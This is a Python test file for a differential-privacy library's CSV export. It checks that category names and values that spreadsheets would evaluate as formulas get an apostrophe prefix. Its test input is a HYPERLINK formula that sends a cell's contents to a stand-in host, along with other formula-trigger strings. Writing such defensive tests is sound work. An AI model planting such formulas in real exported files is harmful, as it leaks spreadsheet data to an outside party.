"""Tables of answers hold no formula, whatever a category is called, and numbers as they were."""

from __future__ import annotations

import csv
import io

import pytest

from dpcurves import ADD_REMOVE, CdfQuestion, Grid, PrivacyLoss, Session
from dpcurves.data import Categories
from dpcurves_server.releases import csv_of, inert

BAD = '=HYPERLINK("https://example.org/?"&A1)'


def test_a_category_that_is_a_formula_is_text_in_the_table() -> None:
    with Session({"x": [1.0, -2.0], "who": [BAD, "b"]}, budget=PrivacyLoss.pure(1), adjacency=ADD_REMOVE) as session:
        question = CdfQuestion("x", Grid(-3, 3, cells=3), by=Categories("who", (BAD, "b")))
        header, *rows = csv.reader(io.StringIO(csv_of(session.ask(question, PrivacyLoss.pure(1)))))
    cells = [cell for row in rows for cell in row]
    assert f"'{BAD}" in cells
    assert BAD not in (*header, *cells)
    assert {"-3.0", "b"} <= set(cells)


@pytest.mark.parametrize("text", ["=1", "+A1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "-"])
def test_what_a_program_might_work_out_stands_behind_an_apostrophe(text: str) -> None:
    assert inert(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "-60", "+1.5e-3", "-.5", "[-60, -50)", "a=b", "UA"])
def test_what_no_program_works_out_stays_as_it_is(text: str) -> None:
    assert inert(text) == text
